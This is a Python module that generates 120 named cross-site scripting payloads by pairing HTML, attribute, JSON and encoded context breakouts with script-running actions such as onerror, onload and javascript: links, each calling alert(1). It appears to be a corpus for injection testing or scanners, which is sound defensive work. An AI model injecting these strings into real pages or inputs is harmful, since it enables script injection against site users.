"""Texts that would run, if any page took them for markup: each way out of where a text stands, with each thing to do then."""

from itertools import product

WAYS_OUT = {
    "text": "",
    "double-quotes": '">',
    "single-quotes": "'>",
    "attribute": '" ',
    "single-attribute": "' ",
    "backquotes": "` ",
    "title": "</title>",
    "textarea": "</textarea>",
    "style": "</style>",
    "script": "</script>",
    "noscript": "</noscript>",
    "template": "</template>",
    "svg": "</svg></math>",
    "comment": "-->",
    "cdata": "]]>",
    "json": '\\"}]\u2028',
    "entity": "&quot;&gt;",
    "percent": "%22%3E",
    "tag": "<x y=z/",
    "line": "\n\n>",
}
DEEDS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "onfocus=alert(1) autofocus tabindex=0 x=",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<a href=javascript:alert(1)>here</a>",
)
PAYLOADS = {
    f"{name}-{number}": way + deed for (name, way), (number, deed) in product(WAYS_OUT.items(), enumerate(DEEDS))
}
"""By a name for each, 120 of them."""
